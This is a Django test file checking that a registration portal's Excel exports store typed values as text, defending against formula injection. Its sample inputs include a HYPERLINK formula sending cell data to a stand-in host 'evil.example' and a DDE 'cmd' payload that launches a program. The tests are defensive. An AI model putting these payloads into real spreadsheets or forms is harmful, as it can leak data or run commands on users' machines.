"""Formula injection: whatever a user typed reaches an Excel export as text, never as a formula.

Found by the hostile-input review (issue 13, item 3): an anonymous registration whose name,
address and phone began with "=", "+", "-" or "@" became live formulas in the registry export,
and the dashboard export turned its "= 10" target labels into formulas."""

import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from portal import spreadsheets
from reports.models import Indicator, Phase, Target
from tests.enterprises.factories import CommuneFactory, ProvinceFactory, valid_tax_code
from tests.enterprises.test_registration import registration_data

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "address": "+cmd|' /C calc'!A0",
    "phone": "-2+3",
    "short_name": "@SUM(1+1)",
}


def _cells(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _exported(client, capture, url_name: str, params: dict):
    """The file of the export job the list's former export address starts."""
    from portal.models import ExportJob

    with capture(execute=True):
        client.get(reverse(url_name), params)
    job = ExportJob.objects.latest("id")
    download = client.get(reverse("portal:export_download", args=[job.pk]))
    return download, b"".join(download.streaming_content)


def test_a_registration_typed_as_formulas_is_exported_as_text(
    staff_client, django_capture_on_commit_callbacks
):
    commune = CommuneFactory(code="08290", name="Phường Việt Trì", parent=ProvinceFactory())
    response = Client().post(
        reverse("enterprises:register"),
        registration_data(commune, tax_code=valid_tax_code(777), **HOSTILE),
    )
    assert response.status_code == 302, response.context["form"].errors

    export, content = _exported(
        staff_client,
        django_capture_on_commit_callbacks,
        "enterprises:registry_export",
        {"status": "draft"},
    )
    cells = _cells(content)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = {cell.value for cell in cells}
    for typed in HOSTILE.values():
        assert typed in values  # the visible value is exactly what was typed
    name_cell = next(cell for cell in cells if cell.value == HOSTILE["name"])
    assert name_cell.data_type == "s"
    assert name_cell.quotePrefix  # editing the cell in Excel keeps it text
    assert export["Content-Disposition"].startswith("attachment;")


def test_dashboard_target_labels_are_exported_as_text(
    staff_client, db, django_capture_on_commit_callbacks
):
    indicator = Indicator.objects.get(code="PILOT_MODELS")
    phase = Phase.objects.get(start_year=2026)
    Target.objects.filter(indicator=indicator, phase=phase).delete()
    Target.objects.create(indicator=indicator, phase=phase, year=2026, kind="exact", value=10)

    export, content = _exported(
        staff_client, django_capture_on_commit_callbacks, "reports:dashboard_export", {"year": 2026}
    )
    assert export.status_code == 200
    cells = _cells(content)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert "= 10" in {cell.value for cell in cells}


@pytest.mark.parametrize("typed", ["=1+1", "+1", "-1-1", "@A1", "#N/A", "=", "\t=1"])
def test_the_excel_helper_writes_every_string_as_text(typed):
    workbook = spreadsheets.new_workbook(write_only=True)
    sheet = workbook.create_sheet("x")
    spreadsheets.append_row(sheet, [typed, 12, None])
    (row,) = load_workbook(io.BytesIO(spreadsheets.workbook_bytes(workbook))).active.iter_rows()
    assert (row[0].value, row[0].data_type) == (typed, "s")
    assert (row[1].value, row[1].data_type) == (12, "n")
